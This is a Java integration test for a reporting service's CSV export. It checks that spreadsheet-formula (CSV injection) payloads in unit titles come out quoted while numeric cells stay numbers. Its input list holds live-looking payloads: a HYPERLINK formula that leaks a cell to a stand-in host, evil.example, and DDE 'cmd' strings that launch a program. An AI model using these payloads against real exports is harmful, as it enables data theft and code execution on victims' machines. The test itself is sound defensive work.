package vn.dvk.reporting.script;

import static io.restassured.RestAssured.given;
import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.quarkus.test.junit.QuarkusTest;
import java.io.IOException;
import java.io.StringReader;
import java.time.Duration;
import java.time.LocalDate;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import vn.dvk.reporting.script.ScriptedCampaign.Model;
import vn.dvk.testing.DemoEvents;
import vn.dvk.testing.TestTokens;

/**
 * Units' titles reach reviewers' CSV export; a spreadsheet must open them as text, never as a formula (CSV injection,
 * OWASP): every text cell starting with =, +, -, @, a tab or a carriage return carries a leading single quote, while
 * numbers, negative ones included, stay numbers.
 */
@QuarkusTest
class CsvInjectionTest {

    private static final Duration EVENTUALLY = Duration.ofSeconds(90);
    private static final LocalDate DAY = LocalDate.of(2026, 3, 2);
    private static final List<String> HOSTILE_TITLES = List.of("=HYPERLINK(\"https://evil.example/?\"&B2,\"Xem\")",
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1");
    private static final String FORMULA_LEADS = "=+-@\t\r";

    private final ScriptedCampaign campaign = ScriptedCampaign.empty();

    @Test
    void textCellsThatWouldStartAFormulaAreQuotedAndNumbersAreNot() throws IOException {
        for (String title : HOSTILE_TITLES) {
            Model original = campaign.newModel(campaign.paths.get(0), null);
            campaign.drafted(original, title, "Tóm tắt", DAY);
            campaign.submitted(original, title, DAY.plusDays(1));
            Model replica = campaign.newModel(campaign.paths.get(1), original.id());
            campaign.drafted(replica, "Mô hình nhân rộng", "Tóm tắt", DAY.plusDays(2));
            campaign.submitted(replica, "Mô hình nhân rộng", DAY.plusDays(3));
        }
        // recognised in March, its only recognition revoked in July: July's recognitions are -1
        Model revoked = campaign.newModel(campaign.paths.get(2), null);
        campaign.drafted(revoked, "Mô hình bị thu hồi", "Tóm tắt", DAY);
        campaign.submitted(revoked, "Mô hình bị thu hồi", DAY.plusDays(1));
        campaign.caseOpened(revoked, DAY.plusDays(1));
        campaign.recognized(revoked, "BASE", 1, DAY.plusDays(5));
        campaign.sendUnsentAndAwait(EVENTUALLY);
        DemoEvents.revoked(revoked.id().toString(), campaign.campaign, 3, "BASE", null, "15-QĐ/ĐU");
        String reader = TestTokens.token("province.reader", campaign.province, "reviewer");
        await().atMost(EVENTUALLY).until(() -> given().auth().oauth2(reader).queryParam("campaignId", campaign.campaign)
                .get("/api/v1/reports/funnel").then().statusCode(200).extract().jsonPath().getInt("revoked") == 1);

        String csv = given().auth().oauth2(reader).queryParam("campaignId", campaign.campaign)
                .get("/api/v1/reports/review/csv").then().statusCode(200).extract().asString();
        List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv.substring(1))).getRecords();
        for (String title : HOSTILE_TITLES) {
            String label = "'" + title + " (Đơn vị " + campaign.paths.get(0).unit() + ")";
            assertTrue(records.stream().anyMatch(r -> r.get(1).equals(label) && r.get(3).equals("1")),
                    "the replicated model " + title.strip() + " is listed, quoted");
        }
        for (CSVRecord record : records) {
            for (int text = 0; text < 3; text++) {
                String cell = record.get(text);
                assertFalse(!cell.isEmpty() && FORMULA_LEADS.indexOf(cell.charAt(0)) >= 0, record.toString());
            }
            Double.parseDouble(record.get(3)); // the value column holds numbers, never a quoted one
        }
        assertEquals(List.of("-1"), records.stream()
                .filter(r -> r.get(0).equals("Theo tháng") && r.get(1).equals("07/2026")
                        && r.get(2).equals("Công nhận (các cấp)")).map(r -> r.get(3)).toList(),
                "a negative figure stays a number");
    }
}
